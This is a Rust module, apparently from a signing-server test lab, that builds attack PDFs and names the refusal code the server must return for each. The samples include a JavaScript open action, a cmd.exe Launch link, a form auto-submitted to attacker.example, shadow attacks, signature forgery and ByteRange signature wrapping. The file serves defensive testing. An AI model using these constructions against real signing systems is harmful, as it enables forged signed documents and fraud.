//! PDFs an attacking relying party sends: one per attack class of
//! PROTOCOL.md §9.1, built with lopdf from the plain letter every honest
//! sender has, so that the lab needs nothing but itself against any
//! deployment. Each builder names the rule the server must refuse it under.

use crate::pdf::{bytes, catalog_id, first_page_id, page_content, text_pages};
use lopdf::{Document, IncrementalDocument, Object, StringFormat, dictionary};
use wysiwys_proto::ErrorCode;

/// What the person is asked to sign.
pub const LETTER_TEXT: &str = "Permit 2026-4411 approved";
/// What the attacker wants to be shown or signed instead.
pub const FORGED_TEXT: &str = "Pay 9000 EUR to the sender";

/// A PDF made to break `rule`, and what it tries.
#[derive(Debug)]
pub struct AttackPdf {
    pub rule: &'static str,
    pub what: &'static str,
    pub bytes: Vec<u8>,
}

impl AttackPdf {
    /// The refusal PROTOCOL.md §9.1 gives the rule.
    pub fn refused_with(&self) -> ErrorCode {
        code_of_rule(self.rule)
    }
}

/// PROTOCOL.md §9.1: what cannot be signed as it is is `DOCUMENT_INVALID`;
/// what could be shown other than signed, `UNSAFE_DOCUMENT`.
pub fn code_of_rule(rule: &str) -> ErrorCode {
    match rule {
        "encrypted" | "certified-no-changes" | "signature-forgery" | "signature-wrapping" => ErrorCode::DocumentInvalid,
        _ => ErrorCode::UnsafeDocument,
    }
}

fn letter() -> Document {
    text_pages(&[LETTER_TEXT])
}

fn attack(rule: &'static str, what: &'static str, edit: impl FnOnce(&mut Document)) -> AttackPdf {
    let mut doc = letter();
    edit(&mut doc);
    AttackPdf { rule, what, bytes: bytes(&mut doc) }
}

fn set_in_catalog(doc: &mut Document, key: &str, value: impl Into<Object>) {
    let catalog = catalog_id(doc);
    doc.get_dictionary_mut(catalog).expect("the catalog").set(key, value);
}

fn add_annotation(doc: &mut Document, annotation: lopdf::Dictionary) -> lopdf::ObjectId {
    let id = doc.add_object(annotation);
    let page = first_page_id(doc);
    doc.get_dictionary_mut(page).expect("the page").set("Annots", vec![id.into()]);
    id
}

/// A link, at the place the eye looks, and where it takes the reader.
fn link(action: lopdf::Dictionary) -> lopdf::Dictionary {
    dictionary! {
        "Type" => "Annot", "Subtype" => "Link",
        "Rect" => vec![72.into(), 750.into(), 400.into(), 780.into()],
        "A" => action,
    }
}

/// Content that runs, opens or depends on the viewer (rules `javascript`,
/// `action`, `embedded-file`, `xfa`, `optional-content`).
pub fn active_content() -> Vec<AttackPdf> {
    vec![
        attack("javascript", "JavaScript run on opening (/OpenAction)", |doc| {
            let script = dictionary! {"S" => "JavaScript", "JS" => Object::string_literal("app.alert('signed')")};
            set_in_catalog(doc, "OpenAction", script);
        }),
        attack("action", "a link that launches a program", |doc| {
            add_annotation(doc, link(dictionary! {"S" => "Launch", "F" => Object::string_literal("cmd.exe")}));
        }),
        attack("action", "a form submitted when the page opens (/AA)", |doc| {
            let page = first_page_id(doc);
            let submit = dictionary! {"S" => "SubmitForm", "F" => Object::string_literal("https://attacker.example/")};
            doc.get_dictionary_mut(page).expect("the page").set("AA", dictionary! {"O" => submit});
        }),
        attack("embedded-file", "an attachment with other terms", |doc| {
            let file = doc.add_object(lopdf::Stream::new(
                dictionary! {"Type" => "EmbeddedFile"},
                FORGED_TEXT.as_bytes().to_vec(),
            ));
            let spec = dictionary! {"Type" => "Filespec", "F" => Object::string_literal("terms.txt"), "EF" => dictionary! {"F" => file}};
            let names = vec![Object::string_literal("terms.txt"), spec.into()];
            set_in_catalog(doc, "Names", dictionary! {"EmbeddedFiles" => dictionary! {"Names" => names}});
        }),
        attack("xfa", "an XFA form drawn instead of the page", |doc| {
            let xfa = doc.add_object(lopdf::Stream::new(
                lopdf::Dictionary::new(),
                format!(
                    "<xdp:xdp><template><draw><value><text>{FORGED_TEXT}</text></value></draw></template></xdp:xdp>"
                )
                .into_bytes(),
            ));
            set_in_catalog(doc, "AcroForm", dictionary! {"Fields" => Vec::<Object>::new(), "XFA" => xfa});
        }),
        attack("optional-content", "a layer the viewer may hide", |doc| {
            let layer = doc.add_object(dictionary! {"Type" => "OCG", "Name" => Object::string_literal("terms")});
            let properties =
                dictionary! {"OCGs" => vec![layer.into()], "D" => dictionary! {"OFF" => vec![layer.into()]}};
            set_in_catalog(doc, "OCProperties", properties);
        }),
    ]
}

/// Shadow attacks prepared before signing (rules `unused-object`, `form-field`).
pub fn shadows() -> Vec<AttackPdf> {
    vec![
        attack("unused-object", "a second page content hidden in the file (shadow hide)", |doc| {
            doc.add_object(lopdf::Stream::new(lopdf::Dictionary::new(), page_content(FORGED_TEXT)));
        }),
        attack("form-field", "a text field a later update may fill (shadow replace)", |doc| {
            let field = add_annotation(
                doc,
                dictionary! {
                    "Type" => "Annot", "Subtype" => "Widget", "FT" => "Tx",
                    "T" => Object::string_literal("amount"), "V" => Object::string_literal("0 EUR"),
                    "Rect" => vec![72.into(), 700.into(), 300.into(), 720.into()],
                },
            );
            set_in_catalog(doc, "AcroForm", dictionary! {"Fields" => vec![field.into()]});
        }),
    ]
}

/// Signatures that sign nothing or forbid ours (rules
/// `signature-forgery`, `certified-no-changes`).
pub fn made_up_signatures() -> Vec<AttackPdf> {
    vec![
        attack("signature-forgery", "a signature without /ByteRange (universal signature forgery)", |doc| {
            let signature = dictionary! {
                "Type" => "Sig", "Filter" => "Adobe.PPKLite", "SubFilter" => "adbe.pkcs7.detached",
                "Contents" => Object::String(vec![0x30, 0x80, 0, 0], StringFormat::Hexadecimal),
            };
            let signature = doc.add_object(signature);
            let field = add_annotation(
                doc,
                dictionary! {
                    "Type" => "Annot", "Subtype" => "Widget", "FT" => "Sig", "T" => Object::string_literal("agency"),
                    "V" => signature, "Rect" => vec![0.into(), 0.into(), 0.into(), 0.into()],
                },
            );
            set_in_catalog(doc, "AcroForm", dictionary! {"Fields" => vec![field.into()], "SigFlags" => 3});
        }),
        attack("certified-no-changes", "a certification that allows no change (DocMDP P=1)", |doc| {
            let reference = dictionary! {
                "Type" => "SigRef", "TransformMethod" => "DocMDP",
                "TransformParams" => dictionary! {"Type" => "TransformParams", "P" => 1, "V" => "1.2"},
            };
            let signature = doc.add_object(dictionary! {
                "Type" => "Sig", "Filter" => "Adobe.PPKLite", "SubFilter" => "adbe.pkcs7.detached",
                "Reference" => vec![reference.into()],
            });
            set_in_catalog(doc, "Perms", dictionary! {"DocMDP" => signature});
        }),
    ]
}

/// The plain letter the tampering starts from.
pub fn plain_letter() -> Vec<u8> {
    bytes(&mut letter())
}

/// Attacks on a PDF that we signed through both channels: what a relying
/// party could send back to have it signed again as if still intact.
pub fn tampered(signed: &[u8]) -> Vec<AttackPdf> {
    vec![
        AttackPdf {
            rule: "signature-forgery",
            what: "a byte of the signed letter changed",
            bytes: replace_once(signed, LETTER_TEXT.as_bytes(), "Permit 2026-4411 revoked!".as_bytes()),
        },
        AttackPdf {
            rule: "signature-wrapping",
            what: "the unsigned gap widened over bytes before /Contents",
            bytes: widen_gap(signed),
        },
        AttackPdf {
            rule: "incremental-update",
            what: "an update after the signature that draws other text on the page",
            bytes: update_page(signed),
        },
    ]
}

fn replace_once(haystack: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    assert_eq!(from.len(), to.len(), "a same-length edit keeps every offset");
    let at = haystack.windows(from.len()).position(|w| w == from).expect("the text is in the file");
    let mut out = haystack.to_vec();
    out[at..at + to.len()].copy_from_slice(to);
    out
}

/// The last `/ByteRange [0 a b c]` rewritten to `[0 a-k b c]`, same length.
fn widen_gap(signed: &[u8]) -> Vec<u8> {
    let key = b"/ByteRange";
    let at = signed.windows(key.len()).rposition(|w| w == key).expect("a signature") + key.len();
    let close = at + signed[at..].iter().position(|&b| b == b']').expect("the array ends");
    let text = std::str::from_utf8(&signed[at..=close]).expect("ASCII");
    let numbers: Vec<usize> = text
        .trim_matches(|c: char| c.is_whitespace() || c == '[' || c == ']')
        .split_whitespace()
        .map(|n| n.parse().expect("a number"))
        .collect();
    let [0, a, b, c] = numbers[..] else { panic!("not a ByteRange: {text}") };
    let mut widened = format!("[0 {} {b} {c}]", a - 8).into_bytes();
    // The original is padded with spaces or as long: keep the file's length.
    let length = close + 1 - at;
    assert!(widened.len() <= length, "{text}");
    widened.resize(length, b' ');
    let mut out = signed.to_vec();
    out[at..=close].copy_from_slice(&widened);
    out
}

/// An incremental update that gives the first page a new content stream.
fn update_page(signed: &[u8]) -> Vec<u8> {
    let mut doc = IncrementalDocument::load_from(signed).expect("our signed PDF loads");
    let page = first_page_id(doc.get_prev_documents());
    doc.opt_clone_object_to_new_document(page).expect("the page");
    let content = doc.new_document.add_object(lopdf::Stream::new(lopdf::Dictionary::new(), page_content(FORGED_TEXT)));
    doc.new_document.get_dictionary_mut(page).expect("the page").set("Contents", content);
    let mut out = Vec::new();
    doc.save_to(&mut out).expect("lopdf writes to memory");
    out
}
